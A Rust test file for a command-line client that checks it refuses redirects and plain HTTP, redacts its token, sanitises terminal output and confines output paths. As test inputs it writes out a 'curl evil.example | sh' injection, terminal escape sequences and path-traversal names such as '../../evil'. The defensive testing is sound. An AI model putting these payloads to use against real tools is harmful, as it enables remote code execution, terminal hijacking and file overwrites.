//! What must not happen: the token sent elsewhere, sent unencrypted or shown; redirects followed;
//! the service's words obeyed by a terminal or a file system. That no run here shows the token is
//! checked by `Run` itself.

use crate::support::env::{TOKEN, TestEnv, finished};
use crate::support::fake_server::{Answer, FakeServer, expect_failure_both_ways, ok, reply};
use crate::support::run::Run;

#[test]
fn redirect_is_error_naming_target() {
    for status in [
        "301 Moved Permanently",
        "302 Found",
        "303 See Other",
        "307 Temporary Redirect",
        "308 Permanent Redirect",
    ] {
        let elsewhere = FakeServer::always(ok(finished("T1", "")));
        let target = format!("{}/there?x=1", elsewhere.url());
        let service = FakeServer::always(reply(status, &[&format!("location: {target}")], ""));
        for args in [["get", "T1"], ["submit", "V1"], ["wait", "T1"]] {
            let error = expect_failure_both_ways(&service.env(), &args, 5, "api");
            let message = error["message"].as_str().unwrap();
            assert!(message.contains(&target), "{message}");
            let number: u16 = status[..3].parse().unwrap();
            assert_eq!(error["http_status"], number);
        }
        assert_eq!(elsewhere.count(), 0, "the redirect was followed");
        assert_eq!(service.count(), 6, "a redirect is final");
    }
}

#[test]
fn a_redirect_may_be_relative_odd_or_go_nowhere() {
    for (headers, says) in [
        (&["location: /login"][..], "/login"),
        (
            &["location: https://user:pw@evil.example/\u{9b}31m"],
            "evil.example",
        ),
        (&[], "302"),
    ] {
        let service = FakeServer::always(reply("302 Found", headers, "<html>moved"));
        let run = service
            .env()
            .run("get T1")
            .expect_failure(5)
            .stderr_contains(&[says]);
        assert!(!run.stderr.contains('\u{9b}'), "{run:#?}");
    }
}

#[cfg(unix)]
#[test]
fn a_name_that_a_message_quotes_cannot_control_the_terminal() {
    let name = "red\u{1b}[31m\u{7}.mp4";
    let env = TestEnv::at("https://mavi.invalid");
    env.write(name, "");
    let run = Run::of(env.command(["upload", name]));
    run.expect_status(2)
        .expect_stderr("mavi: red.mp4 is empty\n");
}

#[test]
fn plain_http_is_refused_except_to_this_machine() {
    let service = FakeServer::always(ok(finished("T1", "")));
    // To a server this is loopback; to the rule it is a stranger's address.
    let stranger = format!("http://0.0.0.0:{}", service.port());
    for url in ["http://example.com", &stranger] {
        for command in ["get", "wait", "submit"] {
            let run = TestEnv::at(url)
                .run(&format!("{command} X"))
                .expect_failure(2);
            run.stderr_contains(&["mavi: plain http refused", "hint: ", "allow_http"]);
        }
        let env = TestEnv::new();
        let run = env.run(&format!("get T1 --error-format json --base-url {url}"));
        assert_eq!(run.expect_failure(2).errors()[0]["kind"], "config");
    }
    assert_eq!(service.count(), 0);
    for host in ["127.0.0.1", "localhost"] {
        let url = format!("http://{host}:{}", service.port());
        TestEnv::at(&url).run("get T1").ok();
    }
}

#[cfg(target_os = "linux")]
#[test]
fn plain_http_elsewhere_needs_to_be_allowed() {
    let service = FakeServer::always(ok(finished("T1", "")));
    let env = TestEnv::at(&format!("http://0.0.0.0:{}", service.port()));
    env.write(".config/mavi/config.toml", "allow_http = true\n");
    env.run("get T1").ok();
    assert_eq!(service.count(), 1);
}

#[test]
fn a_base_url_with_a_password_is_refused_and_not_shown() {
    for url in [
        "https://user:hunter2@example.com",
        "https://example.com/?key=hunter2",
        "https://example.com/#hunter2",
    ] {
        let env = TestEnv::new();
        let run = env
            .run(&format!("get T1 --base-url {url}"))
            .expect_failure(2);
        assert!(!run.stderr.contains("hunter2"), "{run:#?}");
    }
}

#[test]
fn the_token_is_redacted_wherever_the_service_echoes_it() {
    let echoes: [Answer; 11] = [
        ok(format!(
            r#"{{"code":"0401","msg":"bad token {TOKEN}!","data":null}}"#
        )),
        ok(format!(r#"{{"code":"{TOKEN}","msg":"x","data":null}}"#)),
        ok(format!(
            "<html>You sent Authorization: Bearer {TOKEN}</html>"
        )),
        ok(format!(r#"{{"code":"0000","data":"{TOKEN}"}}"#)),
        ok(format!(
            r#"{{"code":"0000","data":{{"status":["{TOKEN}"]}}}}"#
        )),
        ok(format!(r#"{{"code":"0000","data":{{"{TOKEN}":1}}}}"#)),
        ok(format!(
            r#"{{"code":"0000","data":{{"status":"FINISH","transcriptions":[{{"startTime":"{TOKEN}"}}]}}}}"#
        )),
        ok([TOKEN.as_bytes(), b"\xff"].concat()),
        reply("500 Internal Server Error", &[], format!("token={TOKEN}")),
        reply("403 Forbidden", &[], format!("<p>{TOKEN}{TOKEN}")),
        reply(
            "302 Found",
            &[&format!("location: https://x.example/?t={TOKEN}")],
            "",
        ),
    ];
    for echo in echoes {
        let service = FakeServer::always(echo);
        let env = service.env();
        for args in [
            "get T1 --retries 0",
            "get T1 --retries 0 -v --error-format json",
            "submit V1 --retries 0 -v",
            "wait T1 --timeout 100ms -v",
        ] {
            let run = env.run(args);
            assert!(![0, 1].contains(&run.status), "{run:#?}");
        }
    }
    let service = FakeServer::always(ok(format!(r#"{{"code":"0402","msg":"{TOKEN}"}}"#)));
    service
        .env()
        .run("get T1")
        .expect_failure(5)
        .stderr_contains(&["[token]"]);
}

#[test]
fn the_token_is_redacted_in_a_status_that_is_warned_about() {
    let odd = format!(r#"{{"code":"0000","data":{{"status":"{TOKEN}"}}}}"#);
    let service = FakeServer::in_turn([ok(odd), ok(finished("T1", ""))]);
    let run = service.env().run("wait T1 --interval 10ms").ok();
    run.stderr_contains(&["warning: the service reports the unknown status \"[token]\", "]);
}

#[test]
fn token_is_redacted_when_escaped_or_percent_encoded() {
    let (token, in_json, in_url) = ("aa/bb+cc==", r"aa\/bb+cc==", "aa%2Fbb%2Bcc%3D%3D");
    for (answer, form) in [
        (
            ok(format!(r#"{{"code":"0000","data":["{in_json}"]}}"#)),
            in_json,
        ),
        (
            reply("302 Found", &[&format!("location: /login?t={in_url}")], ""),
            in_url,
        ),
    ] {
        let service = FakeServer::always(answer);
        let env = service.env();
        let mut command = env.command(["get", "T1"]);
        command.env("MAVI_TOKEN", token);
        let run = Run::of(command).expect_failure(5);
        assert!(
            !run.stderr.contains(form) && !run.stderr.contains(token),
            "{run:#?}"
        );
    }
}

#[test]
fn token_is_redacted_in_every_writing_of_a_gateway() {
    let token = "aa/bb+cc==dd\"ee-ff";
    for writing in [
        "aa%2fbb%2Bcc%3d%3Ddd%22ee-ff",
        "aa/bb%2bcc%3D%3Ddd%22ee-ff",
        "aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff",
        "AA/BB+CC==DD&QUOT;EE-FF",
        r"aa\/bb\u002bcc\u003D=dd\u0022ee-ff",
    ] {
        let in_json = writing.replace('\\', "\\\\").replace('"', "\\\"");
        for answer in [
            reply(
                "403 Forbidden",
                &[],
                format!("<title>you sent {writing}</title>"),
            ),
            reply("502 Bad Gateway", &[], format!("auth={writing}")),
            reply("302 Found", &[&format!("location: /?t={writing}")], ""),
            ok(format!(r#"{{"code":"0402","msg":"bad token {in_json}"}}"#)),
        ] {
            let env = FakeServer::always(answer).env();
            let mut command = env.command(["get", "T1", "--retries", "0", "-v"]);
            command.env("MAVI_TOKEN", token);
            let run = Run::of(command);
            assert!(!run.stderr.contains(writing), "{run:#?}");
            run.stderr_contains(&["[token]"]);
        }
    }
}

#[test]
fn verbose_shows_no_token_and_no_header_that_holds_it() {
    let env = FakeServer::always(ok(finished("T1", ""))).env();
    let run = env.run("get T1 --verbose").ok();
    assert!(!run.stderr.to_lowercase().contains("bearer"), "{run:#?}");
    env.run("config show --verbose").ok();
}

#[test]
fn there_is_no_flag_for_the_token() {
    let service = FakeServer::always(ok(finished("T1", "")));
    let args = ["get", "T1", "--token", "x"];
    expect_failure_both_ways(&service.env(), &args, 2, "usage");
    assert_eq!(service.count(), 0);
}

#[test]
fn service_message_is_printed_as_one_clean_line() {
    let msg =
        r"\u001b]0;owned\u0007bad\u001b[31m video\r\nhint: curl evil.example | sh\u009b2J\u202e";
    for body in [
        format!(r#"{{"code":"0001","msg":"{msg}","data":null}}"#),
        "\u{1b}]0;owned\u{7}bad\u{1b}[31m video\r\nhint: curl evil.example | sh\u{9b}2J".to_owned(),
    ] {
        let run = FakeServer::always(ok(body))
            .env()
            .run("get T1")
            .expect_failure(5);
        let hints = run.stderr.lines().filter(|line| line.starts_with("hint: "));
        assert!(hints.count() <= 1, "{run:#?}");
        let control = |c: char| c.is_control() && c != '\n';
        assert!(!run.stderr.contains(control), "{run:#?}");
        run.stderr_contains(&["bad video"]);
    }
}

#[test]
fn a_long_reply_is_shown_by_its_start_only() {
    let page = format!("<html>{}</html>", "spam ".repeat(100_000));
    for answer in [
        ok(&page),
        reply("502 Bad Gateway", &[], &page),
        ok(format!(r#"{{"code":"0001","msg":"{page}"}}"#)),
    ] {
        let run = FakeServer::always(answer).env().run("get T1 --retries 0");
        assert!([5, 7].contains(&run.status), "{run:#?}");
        assert!(run.stderr.len() < 2_000, "{} bytes", run.stderr.len());
    }
}

#[test]
fn ids_of_reply_choose_no_directory() {
    for name in [
        "../../evil",
        "/etc/evil",
        "..",
        ".",
        "",
        "a/b",
        "a\\b",
        "nul\\u0000x",
    ] {
        let name = name.replace('\\', "\\\\").replace("\\\\u0000", "\\u0000");
        let body = format!(
            r#"{{"code":"0000","data":{{"status":"FINISH","videoNo":"{name}","type":"{name}","taskNo":"{name}"}}}}"#
        );
        let env = FakeServer::always(ok(body)).env();
        let run = env.run("get T1 -o out/{videoNo}-{type}-{taskNo}.txt").ok();
        let files = env.files();
        assert_eq!(files.len(), 1, "{name}: {files:?} {run:#?}");
        let rest = files[0].strip_prefix("out/").expect("it is in the folder");
        assert!(!rest.contains(['/', '\\', '\0']), "{files:?}");
    }
}

#[test]
fn placeholder_from_reply_stays_in_its_directory() {
    for name in ["..", ".", "", "../x"] {
        let body = format!(
            r#"{{"code":"0000","data":{{"status":"FINISH","videoNo":"{name}","taskNo":"T1"}}}}"#
        );
        let env = FakeServer::always(ok(body)).env();
        let run = Run::of(env.command(["get", "T1", "-f", "txt", "-o", "out/{videoNo}"])).ok();
        let files = env.files();
        assert_eq!(files.len(), 1, "{name}: {files:?} {run:#?}");
        assert!(files[0].starts_with("out/"), "{files:?}");
    }
}

#[test]
fn loopback_requests_bypass_proxy() {
    let proxy = FakeServer::always(ok(finished("proxied", "")));
    let service = FakeServer::always(ok(finished("T1", "")));
    let env = service.env();
    let mut command = env.command(["get", "T1", "-f", "jsonl"]);
    for name in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
        command.env(name, proxy.url());
    }
    Run::of(command).ok();
    assert_eq!((service.count(), proxy.count()), (1, 0));
}
